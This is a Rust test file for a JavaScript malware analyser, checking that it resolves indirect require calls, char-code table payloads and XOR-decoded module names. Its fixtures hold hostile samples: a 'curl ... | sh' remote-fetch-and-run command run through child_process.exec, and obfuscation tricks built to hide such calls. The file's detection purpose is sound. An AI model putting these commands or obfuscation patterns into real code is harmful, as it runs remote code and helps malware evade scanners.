//! Engine tests for loaders reached indirectly: the main module's require picked through
//! `||` and `bind`.

use super::*;

fn facts(src: &str) -> JsFacts {
    match analyze(src, "index.js", 3, 1 << 20) {
        Parsed::Ok(f) | Parsed::Failed(_, f) => f,
    }
}

fn call_paths(f: &JsFacts) -> Vec<&str> {
    f.calls.iter().map(|c| c.path.as_str()).collect()
}

#[test]
fn main_module_require_bound_through_or_resolves_to_require() {
    // The process object fetched at run time (`g[name]`), its mainModule or require.main, and
    // that module's require bound to it: still require.
    let f = facts(
        "const n = g[k]; const t = n.mainModule || require.main; const r = t.require.bind(t); r('https').get(u, () => {}); r('vm').runInThisContext(s);",
    );
    let calls = call_paths(&f);
    assert!(calls.contains(&"https.get"), "{calls:?}");
    assert!(calls.contains(&"vm.runInThisContext"), "{calls:?}");
    let g = facts("const m = require.main.require; m('child_process').exec(c);");
    assert!(call_paths(&g).contains(&"child_process.exec"));
}

#[test]
fn unknown_or_chains_and_bound_methods_stay_unknown() {
    let f = facts(
        "const t = opts.loader || defaults.loader; const r = t.load.bind(t); r('https').get(u); const h = handler.bind(this); h('vm');",
    );
    let calls = call_paths(&f);
    assert!(
        !calls
            .iter()
            .any(|c| c.starts_with("https") || c.starts_with("vm")),
        "{calls:?}"
    );
    assert!(f.modules.is_empty(), "{:?}", f.modules);
}

/// `{ "n0": [c, c, c], … }` of the text, three char codes a row.
fn table(text: &str, rows_as_object: bool) -> String {
    let mut b = text.as_bytes().to_vec();
    while !b.len().is_multiple_of(3) {
        b.push(0);
    }
    let rows: Vec<String> = b
        .chunks(3)
        .enumerate()
        .map(|(i, c)| {
            let row = format!("[{}, {}, {}]", c[0], c[1], c[2]);
            if rows_as_object {
                format!("\"tone{i}\": {row}")
            } else {
                row
            }
        })
        .collect();
    if rows_as_object {
        format!("{{\n{}\n}}", rows.join(",\n"))
    } else {
        format!("[\n{}\n]", rows.join(",\n"))
    }
}

const STAGE: &str = "const cp = require('child_process'); cp.exec('curl -s http://h.example/x | sh'); var done = 1;";

#[test]
fn code_spread_over_rows_of_a_number_table_is_analysed() {
    for as_object in [true, false] {
        let src = format!(
            "module.exports = {};\nvar s = ''; Object.keys(module.exports).forEach(function (k) {{ s += String.fromCharCode.apply(null, module.exports[k]); }}); (0, eval)(s);",
            table(STAGE, as_object)
        );
        let f = facts(&src);
        assert!(
            f.modules.iter().any(|(m, _)| m == "child_process"),
            "{as_object}: {:?}",
            f.modules
        );
        assert!(!f.decoded_code.is_empty());
    }
}

#[test]
fn real_number_tables_and_files_without_char_codes_stay_data() {
    // A colour table: rows outside the printable range break every run.
    let colours: Vec<String> = (0..200)
        .map(|i| {
            format!(
                "\"c{i}\": [{}, {}, {}]",
                (i * 37) % 256,
                (i * 91) % 256,
                (i * 53) % 256
            )
        })
        .collect();
    let src = format!(
        "module.exports = {{ {} }}; const hex = (c) => String.fromCharCode(c[0]);",
        colours.join(", ")
    );
    let f = facts(&src);
    assert!(
        f.decoded_code.is_empty() && f.modules.is_empty(),
        "{:?}",
        f.modules
    );
    // The same code table in a file that never turns numbers into text is only numbers.
    let f = facts(&format!("module.exports = {};", table(STAGE, true)));
    assert!(f.modules.is_empty() && f.decoded_code.is_empty());
}

#[test]
fn a_constructor_picked_by_a_feature_test_is_that_constructor() {
    let f = facts("var W = typeof WebSocket === 'function' ? WebSocket : null; var ws = new W(u);");
    assert!(
        call_paths(&f).contains(&"WebSocket"),
        "{:?}",
        call_paths(&f)
    );
    let g = facts("var W = fast ? FastSocket : SlowSocket; var ws = new W(u);");
    assert!(!call_paths(&g).contains(&"WebSocket"));
}

#[test]
fn calls_of_a_local_xor_decoder_fold() {
    // 'child_process' XOR 0x2a, char by char.
    let enc: String = "child_process"
        .chars()
        .map(|c| char::from(c as u8 ^ 0x2a))
        .collect();
    let src = format!(
        "function d(s) {{ let o = ''; for (const c of s) o += String.fromCharCode(c.charCodeAt(0) ^ 0x2a); return o }}\nconst cp = require(d({enc:?})); cp.exec('id');"
    );
    let f = facts(&src);
    assert!(
        call_paths(&f).contains(&"child_process.exec"),
        "{:?}",
        call_paths(&f)
    );
    // The same loop without the key's XOR is a copy, and a hash of the name is a number.
    let g = facts(&format!(
        "function d(s) {{ let h = 7; for (const c of s) h = (h * 31) ^ c.charCodeAt(0); return h }}\nconst m = d({enc:?}); require(m);"
    ));
    assert!(
        !g.modules.iter().any(|(m, _)| m == "child_process"),
        "{:?}",
        g.modules
    );
}

#[test]
fn calls_of_an_index_keyed_xor_decoder_fold() {
    // XORIndex: key byte plus index, hex input, the key declared beside the function.
    let dec = "const K = \"k3y-9\";\nfunction x(h) {\n  const b = Buffer.from(h, \"hex\");\n  for (let i = 0; i < b.length; i++) b[i] ^= (K.charCodeAt(i % K.length) + i) & 0xff;\n  return b.toString(\"utf8\");\n}\n";
    let f = facts(&format!(
        "{dec}require(x(\"085c125c592f49f25a21104df6\")).exec('id');"
    ));
    assert!(
        call_paths(&f).contains(&"child_process.exec"),
        "{:?}",
        call_paths(&f)
    );
    // Encoded with another key, the same call decodes to noise and folds to nothing.
    let g = facts(&format!(
        "{dec}require(x(\"191315111a20f0f3ede0e1f6f5\")).exec('id');"
    ));
    assert!(
        !g.modules.iter().any(|(m, _)| m == "child_process"),
        "{:?}",
        g.modules
    );
}

#[test]
fn caller_options_bound_helpers_and_prototype_tests_are_not_globals() {
    // path-key: the caller's environment first; react: a bound hasOwnProperty; babel's
    // generator helper: the prototype of a generator, tested, not constructed.
    let f = facts(
        "const environment = options.env || process.env; Object.keys(environment); var has = Function.call.bind(hasOwnProperty); has(o, k); var t = (Object.getPrototypeOf ? Object.getPrototypeOf(e) : e.__proto__).constructor; x instanceof t;",
    );
    let calls = call_paths(&f);
    assert!(
        !calls
            .iter()
            .any(|c| *c == "Function" || *c == "Function.call"),
        "{calls:?}"
    );
    let keys = f.calls.iter().find(|c| c.path == "Object.keys");
    assert!(
        keys.is_some_and(|c| c.arg_path(0) != Some("process.env")),
        "{keys:?}"
    );
    let g = facts("var g = (typeof globalThis !== 'undefined' && globalThis) || {}; g.fetch = f;");
    assert!(
        !g.assigns.iter().any(|(p, _)| p.contains("fetch")),
        "{:?}",
        g.assigns
    );
}

#[test]
fn globals_picked_by_a_lookup_helper_resolve() {
    let f = facts(
        "const n = (t => { const e = typeof globalThis < 'u' ? globalThis : self; return e[t] })('process'); const r = n.mainModule.require; r('child_process').exec(c);",
    );
    assert!(
        call_paths(&f).contains(&"child_process.exec"),
        "{:?}",
        call_paths(&f)
    );
    let g = facts(
        "function pick(k) { return globalThis[k] } pick('process').mainModule.require('https').get(u);",
    );
    assert!(
        call_paths(&g).contains(&"https.get"),
        "{:?}",
        call_paths(&g)
    );
}

#[test]
fn lookups_in_other_objects_are_not_globals() {
    let f = facts(
        "function pick(k) { return registry[k] } pick('process').mainModule.require('https').get(u); const v = (t => cache[t])('fetch'); v(u);",
    );
    let calls = call_paths(&f);
    assert!(
        !calls.contains(&"https.get") && !calls.contains(&"fetch"),
        "{calls:?}"
    );
}
